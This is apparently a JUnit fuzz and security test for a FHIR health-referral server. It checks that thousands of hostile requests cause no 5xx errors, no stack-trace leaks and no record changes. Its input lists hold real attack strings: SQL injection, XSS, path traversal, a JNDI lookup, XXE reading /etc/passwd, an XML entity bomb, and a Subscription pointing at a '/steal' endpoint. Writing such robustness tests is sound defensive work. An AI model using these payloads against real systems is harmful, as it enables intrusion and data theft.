package health.secondlook.server.security;

import static health.secondlook.server.support.Referrals.awaitPullEnd;
import static health.secondlook.server.support.Referrals.request;
import static health.secondlook.server.support.Referrals.submit;
import static health.secondlook.server.support.Referrals.task;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import ca.uhn.fhir.rest.client.api.IGenericClient;
import health.secondlook.server.referral.ReferralTasks;
import health.secondlook.server.support.FhirClients;
import health.secondlook.server.support.H2ServerTest;
import health.secondlook.server.support.LocalUris;
import health.secondlook.server.support.TestEhrs;
import health.secondlook.server.support.TestIssuer;
import health.secondlook.server.support.TestParties;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.regex.Pattern;
import org.hl7.fhir.r4.model.Bundle;
import org.hl7.fhir.r4.model.Resource;
import org.hl7.fhir.r4.model.Task;
import org.junit.jupiter.api.Test;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Several thousand malformed and hostile requests against a referral, as its owner, another
 * organisation and no one: truncated and mistyped JSON, huge strings, deep nesting, injected and
 * deeply chained search parameters, oversized Bundles, hostile XML, forged tokens. None may get a
 * 5xx or show a stack trace or an exception class, none may change a record, and a plain read by
 * someone else must stay under a second while they run.
 */
@H2ServerTest
class HostileRequestsTest {

  private static final Logger log = LoggerFactory.getLogger(HostileRequestsTest.class);
  private static final Pattern LEAK =
      Pattern.compile("Exception\\b|\\tat [a-z]|\\.java:\\d+|org\\.hibernate|java\\.lang\\.");
  private static final String ALL = "system/*.cruds";

  @LocalServerPort int port;

  private final HttpClient http =
      HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

  record Case(String method, String path, String contentType, String body, String token) {}

  @Test
  void noneGetsA5xxOrAStackTraceNoneChangesARecordAndPlainReadsStayFast() throws Exception {
    IGenericClient operator = FhirClients.client(base());
    Task created =
        task(
            submit(
                TestParties.client(base(), TestParties.REFERRER_A, ALL),
                request(TestEhrs.SANDBOX, TestEhrs.HOSTILE_PATIENT)));
    awaitPullEnd(operator, created.getIdPart(), Duration.ofMinutes(2));
    Task referral =
        await()
            .atMost(Duration.ofMinutes(1))
            .until(
                () -> operator.read().resource(Task.class).withId(created.getIdPart()).execute(),
                t -> ReferralTasks.output(t, ReferralTasks.PACKET_OUTPUT).isPresent());
    String taskPath = "/fhir/Task/" + referral.getIdPart();
    List<String> watched =
        List.of(
            "Task/" + referral.getIdPart(),
            referral.getFor().getReference(),
            referral.getFocus().getReference(),
            ReferralTasks.output(referral, ReferralTasks.PACKET_OUTPUT).orElseThrow());
    Map<String, String> versionsBefore = versions(operator, watched);
    Map<String, Integer> countsBefore = counts(operator);

    List<Case> cases =
        cases(referral, FhirClients.R4.newJsonParser().encodeResourceToString(referral));
    List<String> problems = new CopyOnWriteArrayList<>();
    List<Long> plainReads = new CopyOnWriteArrayList<>();
    AtomicBoolean running = new AtomicBoolean(true);
    Thread reader = new Thread(() -> readWhileRunning(taskPath, running, plainReads, problems));
    reader.start();
    ExecutorService pool = Executors.newFixedThreadPool(4);
    for (Case c : cases) {
      pool.submit(() -> send(c, problems));
    }
    pool.shutdown();
    assertThat(pool.awaitTermination(10, TimeUnit.MINUTES)).isTrue();
    running.set(false);
    reader.join();

    log.info(
        "{} hostile requests sent; {} plain reads during them, slowest {} ms",
        cases.size(),
        plainReads.size(),
        Collections.max(plainReads));
    assertThat(cases.size()).isGreaterThan(3000);
    assertThat(problems).isEmpty();
    assertThat(plainReads).isNotEmpty().allSatisfy(ms -> assertThat(ms).isLessThan(1000));
    assertThat(versions(operator, watched)).isEqualTo(versionsBefore);
    assertThat(counts(operator)).isEqualTo(countsBefore);
  }

  private List<Case> cases(Task referral, String taskJson) {
    List<Case> cases = new ArrayList<>();
    String id = referral.getIdPart();
    String owner = TestParties.token(TestParties.RECIPIENT_A, ALL);
    String other = TestParties.token(TestParties.RECIPIENT_B, ALL);
    String referrer = TestParties.token(TestParties.REFERRER_A, ALL);
    List<String> tokens = new ArrayList<>(List.of(owner, other, referrer));
    tokens.add(null);
    String json = "application/fhir+json";
    // Truncated JSON: 700 prefixes of the Task, PUT by its owner and by another organisation.
    for (int cut = 1; cut < taskJson.length() - 1; cut += Math.max(1, taskJson.length() / 700)) {
      cases.add(
          new Case(
              "PUT",
              "/fhir/Task/" + id,
              json,
              taskJson.substring(0, cut),
              cut % 2 == 0 ? owner : other));
    }
    // Wrong types for each field of the Task.
    for (String field :
        List.of(
            "status",
            "intent",
            "for",
            "owner",
            "note",
            "input",
            "output",
            "meta",
            "id",
            "restriction",
            "priority",
            "businessStatus")) {
      for (String value :
          List.of(
              "123",
              "true",
              "[]",
              "{}",
              "\"bogus\"",
              "null",
              "[1,2,3]",
              "{\"reference\":5}",
              "\"" + "x".repeat(70_000) + "\"")) {
        // Last, so it wins over the Task's own value of the field.
        String body =
            taskJson.substring(0, taskJson.lastIndexOf('}')) + ",\"" + field + "\":" + value + "}";
        cases.add(new Case("PUT", "/fhir/Task/" + id, json, body, owner));
        cases.add(new Case("POST", "/fhir/Task", json, body, referrer));
      }
    }
    // Huge strings and deep nesting.
    for (int size : List.of(70_000, 1_000_000, 5_000_000)) {
      cases.add(
          new Case(
              "PUT",
              "/fhir/Task/" + id,
              json,
              taskJson.replaceFirst("\\{", "{\"note\":[{\"text\":\"" + "y".repeat(size) + "\"}],"),
              owner));
      cases.add(
          new Case(
              "GET",
              "/fhir/Task?identifier=" + "z".repeat(Math.min(size, 60_000)),
              null,
              null,
              owner));
    }
    for (int depth : List.of(65, 100, 1_000, 50_000)) {
      cases.add(new Case("POST", "/fhir/Task", json, "[".repeat(depth) + "]".repeat(depth), owner));
      cases.add(
          new Case(
              "POST",
              "/fhir/Patient",
              json,
              "{\"resourceType\":\"Patient\",\"extension\":"
                  + "[{\"url\":\"x\",\"extension\":".repeat(depth)
                  + "[]"
                  + "}]".repeat(depth)
                  + "}",
              referrer));
    }
    // Injected and deeply chained search parameters, by everyone.
    List<String> injections =
        List.of(
            "' OR 1=1--",
            "1;DROP TABLE HFJ_RESOURCE",
            "%00",
            "<script>alert(1)</script>",
            "\u0000",
            "../../etc/passwd",
            "${jndi:ldap://x}",
            "*",
            "",
            "🙂".repeat(50),
            "a|b|c|d",
            "2026-13-45",
            "ge-99999999",
            "eq1e308",
            "Task/1/_history/x");
    List<String> parameters =
        List.of(
            "_id",
            "identifier",
            "status",
            "subject",
            "subject:Patient.name",
            "_lastUpdated",
            "authored-on",
            "_sort",
            "_elements",
            "_summary",
            "_count",
            "_offset",
            "_format",
            "_include",
            "_revinclude",
            "_has:Task:subject:status",
            "_security",
            "_tag",
            "_text",
            "_content",
            "_filter",
            "owner.name",
            "based-on:ServiceRequest.identifier");
    for (String parameter : parameters) {
      for (String value : injections) {
        for (String token : tokens) {
          cases.add(new Case("GET", "/fhir/Task?" + parameter + "=" + value, null, null, token));
        }
      }
    }
    List<String> chains =
        List.of(
            "/fhir/Task?%sstatus=active|based-on.",
            "/fhir/Observation?%scode=1|_has:Observation:has-member:",
            "/fhir/Patient?%sname=x|general-practitioner.");
    for (int depth = 2; depth <= 20; depth++) {
      for (String chain : chains) {
        String[] parts = chain.split("\\|");
        for (String token : tokens) {
          cases.add(new Case("GET", parts[0].formatted(parts[1].repeat(depth)), null, null, token));
        }
      }
    }
    // Oversized and hostile Bundles.
    for (int entries : List.of(201, 1000, 5000)) {
      StringBuilder batch =
          new StringBuilder("{\"resourceType\":\"Bundle\",\"type\":\"batch\",\"entry\":[");
      for (int i = 0; i < entries; i++) {
        batch
            .append(i == 0 ? "" : ",")
            .append("{\"request\":{\"method\":\"GET\",\"url\":\"Task?_include=*&_revinclude=*\"}}");
      }
      String body = batch.append("]}").toString();
      for (String token : tokens) {
        cases.add(new Case("POST", "/fhir", json, body, token));
        cases.add(
            new Case("POST", "/fhir", json, body.replace("\"batch\"", "\"transaction\""), token));
      }
    }
    for (String token : tokens) {
      cases.add(
          new Case(
              "POST",
              "/fhir",
              json,
              "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":[{\"request\":{\"method\":\"DELETE\",\"url\":\"Task/"
                  + id
                  + "\"}}]}",
              token));
      cases.add(
          new Case(
              "POST",
              "/fhir",
              json,
              "{\"resourceType\":\"Bundle\",\"type\":\"batch\",\"entry\":[{\"request\":{\"method\":\"GET\",\"url\":\"Task/"
                  + id
                  + "\"}}]}",
              token));
      cases.add(new Case("DELETE", "/fhir/Task/" + id, null, null, token));
      cases.add(
          new Case(
              "PATCH",
              "/fhir/Task/" + id,
              "application/json-patch+json",
              "[{\"op\":\"replace\",\"path\":\"/status\",\"value\":\"completed\"}]",
              token));
      cases.add(
          new Case(
              "PATCH",
              "/fhir/Task/" + id,
              "application/json-patch+json",
              "[{\"op\":\"replace\",\"path\":\"/owner\",\"value\":{\"reference\":\"Organization/x\"}}]",
              token));
      cases.add(
          new Case(
              "POST",
              "/fhir/Task/" + id + "/$submit-review",
              json,
              "{\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"outcome\",\"valueString\":5}]}",
              token));
      cases.add(
          new Case(
              "POST",
              "/fhir/ServiceRequest/$request-second-opinion",
              json,
              "{\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"source\",\"valueInteger\":1}]}",
              token));
      cases.add(
          new Case(
              "POST",
              "/fhir/Task/" + id + "/$meta-add",
              json,
              "{\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"meta\",\"valueMeta\":{\"security\":[{\"system\":\""
                  + PartyLabels.RECIPIENT_SYSTEM
                  + "\",\"code\":\""
                  + TestParties.RECIPIENT_B
                  + "\"}]}}]}",
              token));
      cases.add(
          new Case("POST", "/fhir/$reindex", json, "{\"resourceType\":\"Parameters\"}", token));
      cases.add(
          new Case(
              "POST",
              "/fhir/Subscription",
              json,
              "{\"resourceType\":\"Subscription\",\"status\":\"requested\",\"reason\":\"x\",\"criteria\":\"Task?\",\"channel\":{\"type\":\"rest-hook\",\"endpoint\":\"http://127.0.0.1:9/steal\"}}",
              token));
      cases.add(
          new Case(
              "POST",
              "/fhir/Patient",
              "application/fhir+xml",
              "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><Patient xmlns=\"http://hl7.org/fhir\"><name><family value=\"&d;\"/></name></Patient>",
              token));
      cases.add(
          new Case(
              "POST",
              "/fhir/Patient",
              "application/fhir+xml",
              "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Patient xmlns=\"http://hl7.org/fhir\"><name><family value=\"&x;\"/></name></Patient>",
              token));
      for (String path :
          List.of(
              "/fhir/Task/..%2f..%2fetc%2fpasswd",
              "/fhir/Foo",
              "/fhir/Task/" + id + "/_history/abc",
              "/fhir/Task/" + "9".repeat(5000),
              "/fhir/%00",
              "/fhir/Task/$everything",
              "/fhir/Patient/$everything",
              "/fhir/_history",
              "/fhir/AuditEvent",
              "/fhir/Task/" + id + "/$meta",
              "/fhir/$export",
              "/fhir/Task/" + id + "/_history",
              "/fhir/Binary/x")) {
        cases.add(new Case("GET", path, null, null, token));
      }
    }
    Random random = new Random(12);
    for (int i = 0; i < 300; i++) {
      byte[] garbage = new byte[1 + random.nextInt(64)];
      random.nextBytes(garbage);
      cases.add(
          new Case(
              "GET",
              "/fhir/Task/" + id,
              null,
              null,
              java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(garbage)
                  + "."
                  + i
                  + ".x"));
      cases.add(
          new Case(
              "POST", "/fhir/Task", json, new String(garbage, StandardCharsets.ISO_8859_1), owner));
    }
    return cases;
  }

  private void send(Case c, List<String> problems) {
    try {
      HttpRequest.Builder request =
          HttpRequest.newBuilder(uri(c.path())).timeout(Duration.ofSeconds(60));
      if (c.token() != null) {
        request.header("Authorization", "Bearer " + c.token());
      }
      if (c.body() != null) {
        request.header("Content-Type", c.contentType());
        request.method(
            c.method(), HttpRequest.BodyPublishers.ofString(c.body(), StandardCharsets.ISO_8859_1));
      } else {
        request.method(c.method(), HttpRequest.BodyPublishers.noBody());
      }
      HttpResponse<String> response =
          http.send(request.build(), HttpResponse.BodyHandlers.ofString());
      if (response.statusCode() >= 500 || LEAK.matcher(response.body()).find()) {
        problems.add(
            c.method()
                + " "
                + abbreviate(c.path())
                + " -> "
                + response.statusCode()
                + " "
                + abbreviate(response.body()));
      }
    } catch (Exception e) {
      problems.add(c.method() + " " + abbreviate(c.path()) + " failed: " + e);
    }
  }

  private void readWhileRunning(
      String taskPath, AtomicBoolean running, List<Long> times, List<String> problems) {
    String token = TestIssuer.get().operatorToken();
    while (running.get()) {
      long started = System.nanoTime();
      try {
        HttpResponse<String> response =
            http.send(
                HttpRequest.newBuilder(uri(taskPath))
                    .header("Authorization", "Bearer " + token)
                    .build(),
                HttpResponse.BodyHandlers.ofString());
        if (response.statusCode() != 200) {
          problems.add("plain read -> " + response.statusCode());
        }
        times.add((System.nanoTime() - started) / 1_000_000);
        Thread.sleep(100);
      } catch (Exception e) {
        problems.add("plain read failed: " + e);
      }
    }
  }

  private static Map<String, String> versions(IGenericClient operator, List<String> references) {
    Map<String, String> versions = new ConcurrentHashMap<>();
    for (String reference : references) {
      Resource r =
          (Resource)
              operator
                  .read()
                  .resource(reference.substring(0, reference.indexOf('/')))
                  .withId(reference.substring(reference.indexOf('/') + 1))
                  .execute();
      versions.put(reference, r.getMeta().getVersionId() + " " + r.getMeta().getSecurity().size());
    }
    return versions;
  }

  private static Map<String, Integer> counts(IGenericClient operator) {
    Map<String, Integer> counts = new ConcurrentHashMap<>();
    for (String type : List.of("Task", "Patient", "Subscription", "Bundle", "ServiceRequest")) {
      counts.put(
          type,
          operator
              .search()
              .byUrl(type + "?_summary=count")
              .returnBundle(Bundle.class)
              .execute()
              .getTotal());
    }
    return counts;
  }

  private URI uri(String pathAndQuery) {
    return LocalUris.of(port, pathAndQuery);
  }

  private static String abbreviate(String text) {
    return text.length() <= 300 ? text : text.substring(0, 300) + "…";
  }

  private String base() {
    return "http://localhost:" + port + "/fhir";
  }
}
